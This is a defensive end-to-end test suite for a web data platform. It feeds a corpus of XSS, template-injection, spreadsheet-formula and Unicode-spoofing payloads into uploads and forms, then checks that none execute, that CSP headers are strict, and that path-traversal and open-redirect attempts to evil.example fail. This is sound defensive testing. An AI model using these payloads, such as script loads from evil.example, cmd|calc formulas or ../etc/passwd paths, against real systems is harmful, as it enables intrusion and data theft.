import assert from "node:assert/strict";
import { request as httpRequest } from "node:http";
import { after, before, test } from "node:test";
import { type Person, signUp } from "@rivergen/testkit";
import { type Account, openStage, type Seat, settle, showView, type Stage, type View, views } from "@rivergen/testkit/web";

/** Texts that become code where somebody trusts them. Each calls `pwned` or makes an element that is marked, if it can. */
const corpus = [
  "<script>pwned(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "</script><script>pwned(2)</script>",
  "<img src=x onerror=pwned(3) data-evil>",
  "<img/src=`x`onerror=pwned(4)//data-evil>",
  "<svg onload=pwned(5) data-evil>",
  "<svg><animate onbegin=pwned(6) attributeName=x dur=1s data-evil></svg>",
  "<svg><script data-evil>pwned(7)</script></svg>",
  "<math><mtext><option><FAKE><style></option><img src=x onerror=pwned(8) data-evil></style></math>",
  "<iframe srcdoc='<script>parent.pwned(9)</script>' data-evil></iframe>",
  "<object data=javascript:pwned(10) data-evil></object>",
  "<embed src=javascript:pwned(11) data-evil>",
  "<body onload=pwned(12) data-evil>",
  "<details open ontoggle=pwned(13) data-evil>",
  "<input autofocus onfocus=pwned(14) data-evil>",
  "<a href=javascript:pwned(15) data-evil>click</a>",
  "[click](javascript:pwned(16))",
  '![x](x" onerror="pwned(17))',
  "javascript:pwned(18)//",
  "data:text/html,<script>pwned(19)</script>",
  '" autofocus onfocus="pwned(20)" data-evil="',
  "' onmouseover='pwned(21)' data-evil='",
  "{{constructor.constructor('pwned(22)')()}}",
  "${pwned(23)} #{pwned(23)} <%= pwned(23) %>",
  "`;pwned(24)//",
  "\\u003cimg src=x onerror=pwned(25) data-evil\\u003e",
  "&lt;img src=x onerror=pwned(26)&gt;",
  '<meta http-equiv=refresh content="0;url=javascript:pwned(27)" data-evil>',
  "<base href=//evil.example/ data-evil>",
  "<link rel=stylesheet href=//evil.example/x.css data-evil>",
  "<style data-evil>*{background:url(//evil.example/x)}</style>",
  "<form action=//evil.example data-evil><button>go",
  "<template data-evil><script>pwned(33)</script></template>",
  '=HYPERLINK("http://evil.example","click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\u202egnp.exe\u202c",
  "a\u200bb\u200dc\ufeffd",
  "__proto__",
  "constructor",
];
/** Runs in every page before its own scripts: notes what ran, and what the policy stopped. */
const watch = `
  globalThis.ran = [];
  globalThis.pwned = (number) => { globalThis.ran.push(number); };
  globalThis.stopped = [];
  document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => globalThis.stopped.push(violatedDirective + " " + blockedURI));
`;
/** Runs in a page: everything that only a text which was taken for code can have made. */
const findEvil = `[
  ...globalThis.ran.map((number) => "ran " + number),
  ...globalThis.stopped.map((what) => "stopped " + what),
  ...[...document.querySelectorAll('[data-evil], iframe, object, embed, base, fake, form[action*="evil"], link[href*="evil"], meta[http-equiv], a[href^="javascript:" i], a[href^="data:" i]')].map((element) => element.outerHTML.slice(0, 120)),
  ...[...document.querySelectorAll("*")].filter((element) => element.getAttributeNames().some((name) => name.startsWith("on"))).map((element) => element.outerHTML.slice(0, 120)),
]`;

const addressOf = (path: string): string => `/v1/files/${encodeURIComponent(path)}`;
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const yaml = { "content-type": "application/yaml" };

let stage: Stage;
let mallory: Account;
let prompts: string[];
let runs: { readonly good: string; readonly bad: string };

before(async () => {
  stage = await openStage();
  mallory = await openAccount();
  await upload();
  prompts = await Promise.all(
    corpus.slice(0, 6).map(async (text) => made(await mallory.send("POST", "/v1/prompts", { text: `number of evil by ${text}` }), 200)),
  );
  runs = await makeRivers();
});
after(() => stage.close());

async function openAccount(): Promise<Account> {
  const person: Person = await signUp(stage.platform.url, corpus[3]);
  await made(await person.send("POST", "/v1/workspaces", { name: corpus[5] }), 201);
  await made(await person.send("POST", "/v1/api-keys", { name: corpus[0] }), 201);
  const { json } = await person.send("GET", "/v1/auth/session");
  // With two workspaces, each request says which one is meant.
  const send: Person["send"] = (method, path, body, headers = {}) => person.send(method, path, body, { "x-workspace-id": person.workspaceId, ...headers });
  return { ...person, send, session: JSON.stringify({ token: person.token, user: json.user, workspaces: json.workspaces, workspaceId: person.workspaceId }) };
}

/** Every text as a name of a file, as the name of a column, as a value, as a description and as another word for a column. */
async function upload(): Promise<void> {
  const rows = corpus.map((text) => corpus.map((_, index) => (index === 0 ? quoted(text) : String(index))).join(","));
  const table = `${corpus.map(quoted).join(",")}\n${rows.join("\n")}\n`;
  await made(await mallory.send("PUT", `${addressOf("evil.csv")}?dataset=evil`, table, { "content-type": "text/csv", prefer: "wait=60" }), 201);
  const { json: dataset } = await mallory.send("GET", "/v1/datasets/evil");
  const columns = (dataset.columns as { name: string }[]).map(({ name }, index) => ({
    name,
    description: corpus[index] ?? "",
    synonyms: [corpus[index] ?? "x"],
  }));
  await made(await mallory.send("PATCH", "/v1/datasets/evil", { description: corpus.join(" "), columns }), 200);
  const names = corpus.map((text) => text.replaceAll(/[\\/]/g, "\u2215"));
  await Promise.all(
    [0, 1, 2, 3].map(async (part) => {
      const name = `${names
        .filter((_, index) => index % 4 === part)
        .join(" ")
        .slice(0, 200)}.csv`;
      await mallory.send("PUT", `${addressOf(name)}?dataset=part_${part}`, "a,b\n1,2\nmany,fields,here\n", { "content-type": "text/csv", prefer: "wait=60" });
    }),
  );
}

async function makeRivers(): Promise<{ good: string; bad: string }> {
  const river = (name: string, more: object): string =>
    JSON.stringify({
      apiVersion: "rivergen.dev/v1",
      river: name,
      description: corpus.join(" "),
      sources: { evil: { dataset: "evil" } },
      outputs: { [`${name}_out`]: { from: "evil" } },
      ...more,
    });
  await made(await mallory.send("POST", "/v1/rivers", river("good", {}), yaml), 201);
  await made(await mallory.send("PUT", "/v1/rivers/good", river("good", { description: corpus.toReversed().join(" ") }), yaml), 200);
  const broken = { steps: { cast: { from: "evil", derive: { broken: `cast("${corpus[0]}" as integer)` } } }, outputs: { bad_out: { from: "cast" } } };
  await made(await mallory.send("POST", "/v1/rivers", river("bad", broken), yaml), 201);
  const run = async (name: string): Promise<string> => made(await mallory.send("POST", `/v1/rivers/${name}/runs`, {}, { prefer: "wait=60" }), 200);
  return { good: await run("good"), bad: await run("bad") };
}

async function made({ status, text, json }: Awaited<ReturnType<Person["send"]>>, expected: number): Promise<string> {
  assert.equal(status, expected, text);
  return (json as { id: string }).id;
}

async function openWatched(): Promise<Seat & { readonly dialogs: string[] }> {
  const seat = await stage.seat({ account: mallory, ignore: [/40[04]/, /422/] });
  const dialogs: string[] = [];
  await seat.context.addInitScript(watch);
  seat.page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return { ...seat, dialogs };
}

test("nothing that people or data say runs or becomes a part of a page", { timeout: 300_000 }, async () => {
  const tabs = ["preview", "profile", "columns", "reading", "versions", "lineage"].map((tab) => `/data/evil?tab=${tab}`);
  const sides = ["document", "graph", "versions", "runs", "plan"].map((tab) => `/rivers/good?tab=${tab}`);
  // Addresses come from anyone too.
  const addresses = corpus.slice(0, 4).flatMap((text) => [`/ask?text=${encodeURIComponent(text)}`, `/data/${encodeURIComponent(text)}`]);
  const paths = [
    ...tabs,
    ...sides,
    ...addresses,
    ...prompts.map((id) => `/ask/${id}`),
    "/ask",
    "/data",
    "/rivers",
    "/runs",
    "/usage",
    "/settings/keys",
    "/data/part_0?tab=rejected",
    "/data/part_1?tab=reading",
    "/data/part_2",
    "/data/part_3?tab=lineage",
    `/runs/${runs.good}`,
    `/runs/${runs.bad}`,
    `/data?q=${encodeURIComponent(corpus[3] ?? "")}`,
    `/sql?text=${encodeURIComponent(corpus[0] ?? "")}`,
    `/runs?river=${encodeURIComponent(corpus[5] ?? "")}`,
  ];
  const queue = paths.map((path): View => ({ name: path, full: () => path }));
  const found: string[] = [];
  let seen = "";
  await Promise.all(
    [1, 2].map(async () => {
      const { page, context, dialogs, complaints } = await openWatched();
      for (let view = queue.shift(); view; view = queue.shift()) {
        await showView(page, view, view.name);
        found.push(...((await page.evaluate(findEvil)) as string[]).map((what) => `${view?.name}: ${what}`));
        seen += String(await page.evaluate("document.body.innerText"));
      }
      found.push(...dialogs, ...complaints.list);
      await context.close();
    }),
  );
  assert.deepEqual(found, []);
  const unseen = corpus.filter((text) => !seen.includes(text));
  assert.ok(unseen.length <= 4, `the texts were shown as they are, but for ${unseen.join(" and ")}`);
});

test("what is typed, and what fails by it, is text", { timeout: 60_000 }, async () => {
  const { page, context, dialogs, complaints } = await openWatched();
  await page.goto("/sql");
  for (const text of corpus.slice(0, 5)) {
    await page.getByRole("textbox", { name: "Statement" }).fill(`select ${quoted(text)} from evil ${text}`);
    await page.keyboard.press("Control+Enter");
    await page.getByRole("alert").first().waitFor();
  }
  await page.getByRole("tab", { name: "History" }).click();
  await settle(page);
  assert.deepEqual(await page.evaluate(findEvil), []);
  await page.getByRole("button", { name: /^Workspace/ }).click();
  await page.getByRole("menuitem", { name: corpus[5] ?? "" }).click();
  await page.getByText("There is nothing to ask about yet").waitFor();
  await page.keyboard.press("Control+k");
  await page.getByRole("combobox").fill(corpus[3] ?? "");
  await page.keyboard.press("Enter");
  await settle(page);
  assert.deepEqual(await page.evaluate(findEvil), []);
  assert.deepEqual([...dialogs, ...complaints.list], []);
  await context.close();
});

test("the policy of every page lets nothing run but the client's own files", async () => {
  const paths = ["/", "/sign-in", ...new Set(views.flatMap(({ empty }) => empty ?? []))];
  for (const path of paths) {
    const { headers } = await fetch(`${stage.platform.url}${path}`);
    const policy = new Map((headers.get("content-security-policy") ?? "").split(";").map((part) => [part.trim().split(" ")[0] ?? "", part]));
    assert.equal(policy.get("default-src")?.trim(), "default-src 'none'", path);
    assert.equal(policy.get("script-src")?.trim(), "script-src 'self'", path);
    for (const name of ["base-uri", "form-action", "frame-ancestors"]) assert.equal(policy.get(name)?.trim(), `${name} 'none'`, path);
    assert.equal(headers.get("x-content-type-options"), "nosniff");
  }
});

test("files beside the build cannot be had", async () => {
  const tricks = [
    "/assets/../pages.json",
    "/assets/..%2fpages.json",
    "/assets/%2e%2e/pages.json",
    "/assets/%2e%2e%2fpages.json",
    "/assets/..%5cpages.json",
    "/assets/....//pages.json",
    "/assets/..;/pages.json",
    "/assets/%252e%252e%252fpages.json",
    "/assets/../../package.json",
    "/assets/%2e%2e/%2e%2e/package.json",
    "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/assets//etc/passwd",
    "/assets/%00",
    "/assets/index.html%00.js",
    "/assets/",
    "/.vite/manifest.json",
    "/sources.sha256",
    "/pages.json",
    "/assets/.vite/manifest.json",
    "//evil.example/",
    "/package.json",
    "/src/main.tsx",
  ];
  for (const path of tricks) {
    const { status, body } = await rawGet(path);
    assert.ok(status >= 400 && status < 500, `${path} answered ${status}`);
    assert.doesNotMatch(body, /"isEntry"|\["ask"|"dependencies"|root:x|^[0-9a-f]{64}$/, path);
  }
});

/** As it is written: `fetch` would tidy the path. */
function rawGet(path: string): Promise<{ status: number; body: string }> {
  const { hostname, port } = new URL(stage.platform.url);
  return new Promise((resolve, reject) => {
    const request = httpRequest({ hostname, port, path, method: "GET" }, (response) => {
      let body = "";
      response.on("data", (chunk: Buffer) => (body += chunk.toString()));
      response.on("end", () => resolve({ status: response.statusCode ?? 0, body }));
    });
    request.once("error", reject);
    request.end();
  });
}

test("signing in leads nowhere else", { timeout: 60_000 }, async () => {
  const elsewhere = [
    "//evil.example",
    "/\\evil.example",
    "https://evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "\\\\evil.example",
    "javascript:pwned(1)",
    " //evil.example",
    "/%09/evil.example",
    "/..//evil.example",
  ];
  const { page, context } = await stage.seat();
  await context.addInitScript(watch);
  const left: string[] = [];
  await page.route(
    ({ hostname }) => hostname === "evil.example",
    (route) => {
      left.push(route.request().url());
      return route.abort();
    },
  );
  const { email } = mallory;
  for (const next of elsewhere) {
    await page.goto(`/sign-in?next=${encodeURIComponent(next)}`);
    await page.getByRole("textbox", { name: "E-mail address" }).fill(email);
    await page.locator('input[name="password"]').fill("three rivers meet 42");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("navigation", { name: "Main" }).or(page.getByText("There is nothing at this address")).first().waitFor();
    assert.equal(new URL(page.url()).origin, stage.platform.url, next);
    assert.deepEqual(await page.evaluate("ran"), [], next);
    await page.evaluate("localStorage.clear()");
  }
  assert.deepEqual(left, []);
  await context.close();
});
